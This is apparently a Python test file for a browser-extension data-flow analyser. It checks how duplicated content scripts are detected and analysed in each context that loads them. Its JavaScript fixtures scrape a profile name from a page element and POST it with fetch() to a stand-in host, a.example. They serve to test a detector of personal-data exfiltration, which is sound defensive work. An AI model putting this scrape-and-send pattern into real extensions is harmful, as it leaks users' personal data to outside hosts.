"""Scripts that are copies of another: analysed once, as the one that is loaded, in the contexts of both."""

from tests.flow.made import analysed, told

PADDING = "/* " + "x" * 3000 + " */\n"
READS = PADDING + (
    "const name = document.querySelector('.pv-top-card__name').textContent;\n"
    "fetch('https://a.example/in', {method: 'POST', body: name});\n"
)
FLOW = "person.name -> {}:3 body a.example https://a.example/in high"


def copies(files: dict[str, str]) -> tuple[list[str], dict[str, str | None]]:
    analysis = analysed(files)
    return told(analysis), {script.file: script.copy_of for script in analysis.scripts}


def test_a_copy_that_nothing_loads_is_not_analysed_again() -> None:
    flows, of = copies({"content.js": READS, "old/content.js": READS})
    assert flows == ["content.js:2 " + FLOW.format("content.js")]
    assert of == {"content.js": None, "old/content.js": "content.js"}


def test_another_script_that_nothing_loads_is() -> None:
    other = READS.replace("a.example", "b.example")
    analysis = analysed({"content.js": READS, "old/content.js": other})
    assert [use.endpoint.host for use in analysis.endpoints] == ["a.example", "b.example"]
    assert [script.copy_of for script in analysis.scripts] == [None, None]


def test_the_copy_is_named_where_code_loads_it_alone() -> None:
    flows, of = copies({
        "a/read.js": READS, "b/read.js": READS,
        "background.js": "chrome.tabs.onUpdated.addListener(id => "
        "chrome.scripting.executeScript({target: {tabId: id}, files: ['b/read.js']}));",
    })  # fmt: skip
    assert flows == ["b/read.js:2 " + FLOW.format("b/read.js")]
    assert of == {"a/read.js": "b/read.js", "b/read.js": None, "background.js": None}


def test_a_loaded_script_runs_in_the_contexts_of_its_copy_too() -> None:
    makes = PADDING + "globalThis.send = name => fetch('https://a.example/in', {method: 'POST', body: name});\n"
    analysis = analysed({
        "content.js": "send(document.querySelector('.pv-top-card__name').textContent);",
        "lib/send.js": makes, "popup.html": "<script src='lib/send.js'></script>",
        "copy/send.js": makes,
        "background.js": "chrome.tabs.onUpdated.addListener(id => "
        "chrome.scripting.executeScript({target: {tabId: id}, files: ['copy/send.js']}));",
    })  # fmt: skip
    assert told(analysis) == ["content.js:1 person.name -> lib/send.js:2 body a.example https://a.example/in high"]


def test_a_module_that_imports_is_no_copy() -> None:
    code = READS + "import './part.js';\n"
    assert copies({"content.js": code, "old/content.js": code})[1]["old/content.js"] is None
